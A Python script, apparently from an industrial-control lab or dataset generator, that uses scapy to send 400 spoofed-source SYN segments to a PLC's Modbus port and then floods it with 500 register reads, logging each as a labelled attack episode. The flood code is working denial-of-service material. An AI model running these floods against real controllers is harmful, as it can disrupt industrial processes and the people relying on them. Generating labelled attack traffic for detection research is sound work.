"""Two floods of the controller: 400 SYN segments without a connection, then 500 Modbus reads in about a second."""

import time

from scapy.all import IP, TCP, Ether, RandInt, RandShort, conf

from attacks.episode import MODBUS_PORT, Connection, arguments, episode, ports, read_registers, reserve_ports
from network import ENGINEERING, PLC

SYNS = 400
SYN_PAUSE_SECONDS = 0.005
READS = 500
READ_PAUSE_SECONDS = 0.002

if __name__ == "__main__":
    given = arguments(__doc__)
    syn_ports = reserve_ports(SYNS)
    wire = conf.L2socket(iface="eth0")
    description = "400 SYN segments to port 502, none followed by a connection"
    with episode(given.log, "syn_flood", description, [ports(syn_ports)]):
        for port in syn_ports:
            frame = Ether(src=ENGINEERING.mac, dst=PLC.mac) / IP(src=ENGINEERING.ip, dst=PLC.ip, id=RandShort())
            segment = TCP(sport=port, dport=MODBUS_PORT, flags="S", seq=RandInt(), window=1024)
            wire.send(frame / segment)
            time.sleep(SYN_PAUSE_SECONDS)
    time.sleep(20)
    opened: list[int] = []
    description = "500 reads of all holding registers in about a second"
    with episode(given.log, "modbus_flood", description, [ports(opened)]):
        with Connection(opened) as plc:
            for _ in range(READS):
                plc.request(read_registers(3, 0, 32))
                time.sleep(READ_PAUSE_SECONDS)
